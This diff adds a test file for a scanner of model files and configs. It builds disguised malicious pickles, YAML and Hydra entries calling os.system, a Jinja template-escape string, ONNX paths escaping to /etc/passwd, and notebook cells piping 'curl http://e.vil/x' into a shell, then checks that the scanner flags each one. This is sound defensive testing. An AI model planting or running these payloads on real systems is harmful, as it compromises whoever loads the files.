@@ -1,0 +1,311 @@
+import { gzipSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { tar as tarOf } from '../../../test/image.ts';
+import { zip } from '../../../test/zip.ts';
+import * as p from '../../formats/fixtures/pickle-bytes.ts';
+import type { Analyzer } from '../analyzer.ts';
+import * as configuration from '../configuration/index.ts';
+import { factsOf } from '../fixtures/analyze.ts';
+import * as languages from '../languages/index.ts';
+import * as models from './index.ts';
+
+/** Somebody controls the image and wants a gate on risks green: each way that was tried, on the readers as the core asks them. */
+
+const isAnalyzer = (value: unknown): value is Analyzer =>
+  typeof value === 'object' && value !== null && ('read' in value || 'stream' in value);
+const ALL = [models, languages, configuration].flatMap((room) => Object.values<unknown>(room).filter(isAnalyzer));
+
+const said = (path: string, content: Buffer | string): string[] =>
+  factsOf(ALL, path, Buffer.from(content)).flatMap((fact) =>
+    fact.kind === 'risk' ? [`${fact.severity} ${fact.rule}`] : fact.kind === 'unknown' ? [`? ${fact.reason}`] : [],
+  );
+
+const storedZip = (files: Record<string, string | Buffer>): Buffer => zip(files, { stored: true });
+const evil = p.join(p.proto(2), p.attack);
+const PICKLE = 'CRITICAL pickle-calls-os-system';
+const torch = storedZip({ 'archive/data.pkl': evil, 'archive/version': '3' });
+
+const field = (number: number, body: Buffer | string): Buffer =>
+  Buffer.concat([varint((number << 3) | 2), varint(Buffer.byteLength(body)), Buffer.from(body)]);
+const int = (number: number, value: number): Buffer => Buffer.concat([varint(number << 3), varint(value)]);
+function varint(value: number): Buffer {
+  const bytes: number[] = [];
+  for (let left = value; ; left >>>= 7) {
+    bytes.push(left > 127 ? (left & 127) | 128 : left);
+    if (left <= 127) return Buffer.from(bytes);
+  }
+}
+const outside = Buffer.concat([
+  field(8, 'w'),
+  field(13, Buffer.concat([field(1, 'location'), field(2, '../../etc/passwd')])),
+]);
+const onnx = (graph: Buffer, ...more: Buffer[]): Buffer =>
+  Buffer.concat([int(1, 8), field(2, 'pytorch'), field(7, graph), field(8, int(2, 17)), ...more]);
+
+const ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
+const ggufText = (text: string): Buffer => {
+  const length = Buffer.alloc(8);
+  length.writeBigUInt64LE(BigInt(Buffer.byteLength(text)));
+  return Buffer.concat([length, Buffer.from(text)]);
+};
+function gguf(pairs: readonly (readonly [string, string])[]): Buffer {
+  const head = Buffer.from('GGUF\x03\0\0\0', 'latin1');
+  const counts = Buffer.alloc(16);
+  counts.writeBigUInt64LE(BigInt(pairs.length), 8);
+  const text = Buffer.from([8, 0, 0, 0]);
+  return Buffer.concat([head, counts, ...pairs.flatMap(([key, value]) => [ggufText(key), text, ggufText(value)])]);
+}
+
+function safetensors(metadata: Readonly<Record<string, string>>): Buffer {
+  const json = JSON.stringify({ __metadata__: metadata, w: { dtype: 'F32', shape: [4], data_offsets: [0, 16] } });
+  const length = Buffer.alloc(8);
+  length.writeBigUInt64LE(BigInt(Buffer.byteLength(json)));
+  return Buffer.concat([length, Buffer.from(json), Buffer.alloc(16)]);
+}
+
+const lambda = JSON.stringify({
+  class_name: 'Functional',
+  config: { layers: [{ class_name: 'Lambda', config: { name: 'l', function: ['4wEAAA==', null, null] } }] },
+});
+const notebook = (source: string): string =>
+  JSON.stringify({ nbformat: 4, cells: [{ cell_type: 'code', source: [source], outputs: [] }] });
+
+describe('another name, another shape', () => {
+  it.each<[string, string, Buffer]>([
+    ['a PyTorch archive that calls itself a document', 'app/report.docx', torch],
+    ['a PyTorch archive that calls itself a wheel', 'app/m.whl', torch],
+    [
+      'a pickle among the classes of a Java archive',
+      'app/a.jar',
+      storedZip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n', 'archive/data.pkl': evil }),
+    ],
+    ['a pickle before a zip', 'app/m.zip', Buffer.concat([evil, storedZip({ 'a.txt': 'hello' })])],
+    ['a zip behind a program', 'app/m.llamafile', Buffer.concat([Buffer.from('MZqFpD'), Buffer.alloc(600), torch])],
+    [
+      'an archive of NumPy behind other bytes',
+      'app/m.npz',
+      Buffer.concat([Buffer.alloc(700, 1), storedZip({ 'a.pkl': evil })]),
+    ],
+    ['a compressed pickle within a zip', 'app/b.zip', storedZip({ 'm.pkl.gz': gzipSync(evil) })],
+    [
+      'a compressed archive of a model within a zip',
+      'app/b.zip',
+      storedZip({ 'model.tar.gz': gzipSync(tarOf({ 'm.pkl': evil })) }),
+    ],
+    ['a zip within a tar within a zip', 'app/x.zip', storedZip({ 'a.tar': tarOf({ 'b.pt': torch }) })],
+  ])('%s is what it is', (_, path, bytes) => {
+    expect(said(path, bytes)).toContain(PICKLE);
+  });
+
+  it('a format that nobody here reads is not assessed', () => {
+    expect(said('app/m.engine', Buffer.concat([Buffer.from('ftrt'), Buffer.alloc(100)]))).toEqual([
+      '? an engine of TensorRT: not read',
+    ]);
+    expect(said('app/model.rar', Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'))).toEqual(['? a RAR archive: not read']);
+    expect(said('app/weka.model', Buffer.from('aced000573720011', 'hex'))).toEqual([
+      '? a serialized Java object: not read',
+    ]);
+  });
+});
+
+describe('settings that name what is called', () => {
+  it.each<[string, string, string, string]>([
+    [
+      'tags of Python in YAML',
+      'app/conf.yaml',
+      'a: !!python/object/apply:os.system ["id"]',
+      'CRITICAL yaml-calls-dangerous',
+    ],
+    [
+      'the same tag written out',
+      'app/conf.yml',
+      'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["id"]',
+      'CRITICAL yaml-calls-dangerous',
+    ],
+    [
+      'another name for the tags',
+      'app/conf.yml',
+      '%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]',
+      'HIGH yaml-renames-python-tags',
+    ],
+    [
+      'targets of Hydra',
+      'app/conf.yaml',
+      'model:\n  _target_: os.system\n  command: id\n',
+      'CRITICAL settings-call-dangerous',
+    ],
+    [
+      'targets of Hydra in JSON',
+      'app/m/config.json',
+      '{"a": {"_target_": "builtins.exec"}}',
+      'CRITICAL settings-call-dangerous',
+    ],
+    [
+      'modules of sentence-transformers',
+      'app/m/modules.json',
+      '[{"idx": 0, "path": "", "type": "os.system"}]',
+      'CRITICAL settings-import-dangerous',
+    ],
+    [
+      'a loader that MLflow imports',
+      'app/m/MLmodel',
+      'flavors:\n  python_function:\n    loader_module: evil\n    code: code\n',
+      'MEDIUM model-brings-code',
+    ],
+    ['a Keras architecture in JSON', 'app/model.json', lambda, 'HIGH keras-lambda-code'],
+    ['the same under another name, behind spaces', 'app/x.json', ` {${lambda.slice(1)}`, 'HIGH keras-lambda-code'],
+  ])('%s', (_, path, text, risk) => {
+    expect(said(path, text)).toContain(risk);
+  });
+
+  it('and within archives: NeMo, skops', () => {
+    expect(said('app/m.nemo', tarOf({ 'model_config.yaml': '_target_: builtins.exec\n', 'w.ckpt': 'x' }))).toContain(
+      'CRITICAL settings-call-dangerous',
+    );
+    expect(
+      said('app/m.skops', storedZip({ 'schema.json': '{"__class__": "system", "__module__": "os", "content": {}}' })),
+    ).toContain('CRITICAL settings-import-dangerous');
+  });
+
+  it('but not what honest ones say', () => {
+    const hydra =
+      'model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\nemoji: !!python/name:material.extensions.emoji.twemoji\n';
+    expect(said('app/conf.yaml', hydra)).toEqual([]);
+    expect(said('app/m/modules.json', '[{"type": "sentence_transformers.models.Transformer"}]')).toEqual([]);
+    expect(said('app/MLmodel', 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n')).toEqual([]);
+    expect(said('app/model_list.json', '{"class_name": ["a"], "config": 1}')).toEqual([]);
+  });
+});
+
+describe('texts within models', () => {
+  it('a pickle in the metadata of safetensors, in base64 and as it is', () => {
+    expect(said('m.safetensors', safetensors({ format: 'pt', config: evil.toString('base64') }))).toEqual([PICKLE]);
+    expect(said('m.safetensors', safetensors({ format: 'pt', config: evil.toString('latin1') }))).toEqual([PICKLE]);
+    expect(said('m.safetensors', safetensors({ config: '{"_target_": "os.system"}' }))).toEqual([
+      'CRITICAL settings-call-dangerous',
+    ]);
+    expect(said('m.safetensors', safetensors({ format: 'pt', sha: 'YWJjZGVmZ2hpamtsbW5vcA==' }))).toEqual([]);
+  });
+
+  it('a chat template behind ten thousand other pairs', () => {
+    const many = Array.from({ length: 10_050 }, (_, index) => [`k${index}`, 'v'] as const);
+    expect(said('m.gguf', gguf([...many, ['tokenizer.chat_template', ESCAPE]]))).toContain(
+      'HIGH chat-template-injection',
+    );
+  });
+
+  it('the hundred and first template of a tokenizer', () => {
+    const list = Array.from({ length: 101 }, (_, index) => ({
+      name: `t${index}`,
+      template: index === 100 ? ESCAPE : 'hi',
+    }));
+    expect(said('m/tokenizer_config.json', JSON.stringify({ chat_template: list }))).toContain(
+      'HIGH chat-template-injection',
+    );
+  });
+
+  it('a GGUF and templates within a zip', () => {
+    expect(said('m.zip', storedZip({ 'm.gguf': gguf([['tokenizer.chat_template', ESCAPE]]) }))).toContain(
+      'HIGH chat-template-injection',
+    );
+    expect(said('m.zip', storedZip({ 'm/chat_template.jinja': ESCAPE }))).toContain('HIGH chat-template-injection');
+  });
+});
+
+describe('graphs', () => {
+  const sparse = field(15, field(1, outside));
+  it.each<[string, Buffer]>([
+    ['a sparse tensor', onnx(Buffer.concat([sparse, field(2, 'g')]))],
+    [
+      'an attribute that is a sparse tensor',
+      onnx(field(1, Buffer.concat([field(4, 'Constant'), field(5, field(22, field(1, outside)))]))),
+    ],
+    ['the graph of a training', onnx(field(2, 'g'), field(20, field(1, field(5, outside))))],
+    [
+      'a tensor behind ten thousand others',
+      onnx(
+        Buffer.concat([
+          ...Array.from({ length: 10_001 }, (_, index) =>
+            field(5, field(13, Buffer.concat([field(1, 'location'), field(2, `w${index}`)]))),
+          ),
+          field(5, outside),
+        ]),
+      ),
+    ],
+  ])('ONNX: data outside the folder of the model, by %s', (_, bytes) => {
+    expect(said('m.onnx', bytes)).toContain('HIGH onnx-external-data-escapes');
+    expect(said('m.zip', storedZip({ 'm.onnx': bytes }))).toContain('HIGH onnx-external-data-escapes');
+  });
+
+  it('ONNX: Python behind fifty other operators', () => {
+    const node = (operator: string): Buffer =>
+      field(1, Buffer.concat([field(4, operator), field(7, 'ai.onnx.contrib')]));
+    const many = Array.from({ length: 60 }, (_, index) => node(`Op${index}`));
+    expect(said('m.onnx', onnx(Buffer.concat([...many, node('PyOp')])))).toContain('HIGH onnx-python-operator');
+  });
+
+  it('TensorFlow: a graph as text, and operations in a TFLite model', () => {
+    expect(said('m/saved_model.pbtxt', 'node { name: "n" op: "WriteFile" }')).toEqual(['HIGH tensorflow-op-writefile']);
+    const tflite = Buffer.concat([
+      Buffer.from('\x1c\0\0\0TFL3', 'latin1'),
+      Buffer.alloc(70_000),
+      Buffer.from('\x0d\0\0\0FlexWriteFile\0', 'latin1'),
+    ]);
+    expect(said('m.bin', tflite)).toEqual(['HIGH tensorflow-op-writefile']);
+  });
+});
+
+describe('code that an archive brings along', () => {
+  it.each<[string, string, Buffer]>([
+    [
+      'torch.package',
+      'm.pt',
+      storedZip({
+        'pkg/.data/extern_modules': 'os\n',
+        'pkg/m/model.pkl': p.join(p.proto(2), p.emptyDict, p.stop),
+        'pkg/evil.py': 'import os',
+      }),
+    ],
+    ['a handler of TorchServe', 'm.mar', storedZip({ 'MAR-INF/MANIFEST.json': '{}', 'h.py': 'import os' })],
+    [
+      'what AOTInductor compiled',
+      'm.pt2',
+      storedZip({ 'm/archive_format': 'pt2', 'm/data/aotinductor/model/x.so': '\x7fELF' }),
+    ],
+  ])('%s', (_, path, bytes) => {
+    expect(said(path, bytes)).toContain('MEDIUM model-brings-code');
+  });
+
+  it('a line of a .pth that every start of Python runs', () => {
+    const at = 'usr/lib/python3/dist-packages/x.pth';
+    expect(said(at, 'import os;os.system("id")\n')).toEqual(['HIGH python-start-runs-code']);
+    expect(said(at, "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")).toEqual([
+      'HIGH python-start-runs-code',
+    ]);
+    // What setuptools and virtualenv write.
+    expect(
+      said(
+        at,
+        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
+      ),
+    ).toEqual([]);
+    expect(said(at, '/opt/src\nimport _virtualenv\n')).toEqual([]);
+  });
+
+  it.each([
+    '!curl http://e.vil/x | sh',
+    '%%bash\nwget -qO- http://e.vil/x | bash',
+    'get_ipython().system("curl http://e.vil/x | sh")',
+    'import os; os.system("curl -s http://e.vil/x | python3")',
+    '!bash <(curl -s http://e.vil/x)',
+  ])('a cell that runs what it fetches: %s', (source) => {
+    expect(said('a.ipynb', notebook(source))).toEqual(['MEDIUM notebook-runs-download']);
+  });
+
+  it('a cell that runs what it decodes', () => {
+    expect(said('a.ipynb', notebook('import base64;exec(base64.b64decode("aW1wb3J0IG9z"))'))).toEqual([
+      'HIGH notebook-hides-code',
+    ]);
+    expect(said('a.ipynb', notebook('# curl http://x | sh is how others do it\nprint(eval("1"))'))).toEqual([]);
+  });
+});
